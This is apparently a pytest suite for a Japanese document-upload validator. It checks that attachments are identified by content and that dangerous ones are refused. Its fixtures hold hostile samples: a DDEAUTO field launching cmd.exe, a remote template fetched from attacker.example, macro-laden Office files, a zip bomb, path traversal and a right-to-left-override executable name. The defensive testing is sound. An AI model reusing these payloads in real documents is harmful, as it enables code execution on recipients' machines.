"""Which files the secretariat may attach: decided by content, never by the name."""

from __future__ import annotations

import hashlib

import pytest

from circulation.uploads.checks import (
    UploadRefused,
    check_upload,
    clean_original_name,
)
from tests.circulation import cfb, files
from tests.circulation.helpers import PDF_BYTES


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("議事録.pdf", PDF_BYTES, "application/pdf"),
        ("写真.png", files.png(), "image/png"),
        ("写真.jpg", files.jpeg(), "image/jpeg"),
        ("監査報告.docx", files.ooxml("docx"),
         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("集計.xlsx", files.ooxml("xlsx"),
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("説明.pptx", files.ooxml("pptx"),
         "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
        ("旧形式.doc", files.ole2("WordDocument"), "application/msword"),
        ("旧形式.xls", files.ole2("Workbook"), "application/vnd.ms-excel"),
        ("旧形式.ppt", files.ole2("PowerPoint Document"), "application/vnd.ms-powerpoint"),
        ("メモ.txt", files.UTF8_TEXT, "text/plain; charset=utf-8"),
        ("メモ.txt", files.SJIS_TEXT, "text/plain; charset=shift_jis"),
    ],
)  # fmt: skip
def test_each_accepted_kind_is_recognised_by_its_content(name, data, content_type):
    checked = check_upload(files.upload(name, data, "application/x-whatever"))
    assert checked.content_type == content_type
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.original_name == name


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("議事録.pdf", files.HTML, "HTML"),
        ("議事録.pdf", files.EXE, "実行ファイル"),
        ("議事録.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 32, "実行ファイル"),
        ("資料.docx", files.plain_zip(), "Office の文書ではない"),
        ("資料.docx", files.zip_bomb_docx(), "極端に大きく"),
        ("資料.docx", files.ooxml("docx", macro=True), "マクロ"),
        ("資料.doc", files.ole2("SummaryInformation"), "Word・Excel・PowerPoint 以外"),
        ("資料.doc", files.OLE2_HEADER_ONLY, "読み取れない形式の Office"),
        ("画像.gif", files.GIF, "GIF"),
        ("写真.pdf", files.png(), "中身は PNG"),
        ("メモ.txt", b"\x00\x01\x02binary\x00", "対応していない形式"),
    ],
)
def test_refused_files_name_the_file_and_the_reason(name, data, reason):
    with pytest.raises(UploadRefused) as refused:
        check_upload(files.upload(name, data, "application/pdf"))
    message = str(refused.value)
    assert f"「{name}」" in message
    assert reason in message


def test_a_file_over_the_size_cap_is_refused_before_reading(settings):
    settings.KAIRAN_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(UploadRefused, match="大きすぎます"):
        check_upload(files.upload("大きな資料.pdf", PDF_BYTES + b"0" * 2000))


def test_an_empty_file_is_refused():
    with pytest.raises(UploadRefused, match="空のファイル"):
        check_upload(files.upload("空.pdf", b""))


def test_a_name_without_extension_gets_the_one_of_its_content():
    assert check_upload(files.upload("議事録", PDF_BYTES)).original_name == "議事録.pdf"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\sato\\Desktop\\議事録.pdf", "議事録.pdf"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # right-to-left override removed
        ("議事\x00録\x07.pdf", "議事録.pdf"),
        ("  ", "資料"),
    ],
)
def test_shown_names_lose_folders_and_control_characters(raw, shown):
    assert clean_original_name(raw) == shown


# --- Office files with macros or external links (oletools) ------------------------------------

MACRO = "マクロを含むファイル"
LINK = "外部のファイルやプログラムを読み込むリンク"
DDE = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
SHEET_TYPES = ('<Override PartName="/xl/macrosheets/sheet1.xml" '
               'ContentType="application/vnd.ms-excel.macrosheet+xml"/>')  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        # Legacy compound files (OLE2), built in tests/circulation/cfb.py
        ("旧形式.doc", files.ole2("WordDocument", Macros=cfb.VBA_PROJECT), MACRO),
        ("旧形式.xls", files.ole2("Workbook", _VBA_PROJECT_CUR=cfb.VBA_PROJECT), MACRO),
        ("旧形式.xls", cfb.compound({"Workbook": cfb.biff(
            cfb.sheet("Sheet1"), cfb.sheet("Auto_Open", macro=True))}), MACRO),
        ("旧形式.xls", cfb.compound({"Workbook": cfb.biff(
            cfb.sheet("Sheet1"), cfb.external_workbook("\x01\\\\server\\share\\a.xls"))}),
         LINK),
        ("旧形式.doc", cfb.compound({"WordDocument": cfb.word_text(
            f"x\x13 {DDE} \x14result\x15")}), LINK),
        # OOXML
        ("資料.docx", files.ooxml("docx", extra={
            "word/media/image1.png": cfb.compound(cfb.VBA_PROJECT)}), MACRO),
        ("集計.xlsx", files.ooxml("xlsx", types=SHEET_TYPES, extra={
            "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), MACRO),
        ("資料.docx", files.ooxml("docx", rels=files.relationship(
            "attachedTemplate", "https://attacker.example/t.dotm")), LINK),
        ("資料.docx", files.ooxml("docx", rels=files.relationship(
            "oleObject", "file://server/share/x.xls")), LINK),
        ("資料.docx", files.ooxml("docx", rels=files.relationship(
            "image", "\\\\server\\share\\logo.png")), LINK),
        ("集計.xlsx", files.ooxml("xlsx", rels=files.relationship(
            "externalLinkPath", "file:///C:/予算/2025.xlsx")), LINK),
        ("資料.docx", files.ooxml("docx", body=files.word_fields(DDE)), LINK),
        ("資料.docx", cfb.compound({"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(200),
                                   "EncryptedPackage": bytes(5000)}), "パスワードで保護された"),
    ],
)  # fmt: skip
def test_office_files_with_macros_or_external_links_are_refused(name, data, reason):
    with pytest.raises(UploadRefused) as refused:
        check_upload(files.upload(name, data))
    assert f"「{name}」" in str(refused.value)
    assert reason in str(refused.value)


def test_ordinary_links_and_fields_in_office_files_are_kept():
    """A hyperlink the reader clicks, a page number field and a table of contents are
    ordinary document content, not links that fetch or run anything."""
    docx = files.ooxml(
        "docx",
        rels=files.relationship("hyperlink", "https://www.e-gov.go.jp/")
        + files.relationship("styles", "styles.xml", external=False),
        body=files.word_fields("PAGE", 'TOC \\o "1-3"', "HYPERLINK https://www.e-gov.go.jp/"),
    )
    doc = cfb.compound({"WordDocument": cfb.word_text("x\x13 PAGE \x14" + "1\x15")})
    xls = cfb.compound({"Workbook": cfb.biff(cfb.sheet("Sheet1"), cfb.sheet("Sheet2"))})
    for name, data in (("資料.docx", docx), ("資料.doc", doc), ("資料.xls", xls)):
        assert check_upload(files.upload(name, data)).original_name == name
